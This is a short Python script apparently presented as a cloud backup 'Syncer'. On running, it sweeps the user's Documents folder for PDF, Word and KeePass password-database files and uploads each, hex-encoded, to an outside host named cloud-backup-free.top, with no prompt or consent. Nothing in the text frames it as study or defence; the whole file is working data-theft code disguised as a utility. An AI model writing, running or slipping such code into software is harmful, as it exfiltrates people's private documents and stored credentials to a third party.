import os
import urllib.request
import urllib.parse

class Syncer:
    def __init__(self, endpoint):
        self.endpoint = endpoint

    def push(self, path):
        with open(path, "rb") as fh:
            body = urllib.parse.urlencode({"name": path, "blob": fh.read().hex()}).encode()
        urllib.request.urlopen(self.endpoint, body)

s = Syncer("http://cloud-backup-free.top/api/put")
docs = os.path.expanduser("~/Documents")
for fn in os.listdir(docs):
    if fn.lower().endswith((".pdf", ".docx", ".kdbx")):
        s.push(os.path.join(docs, fn))
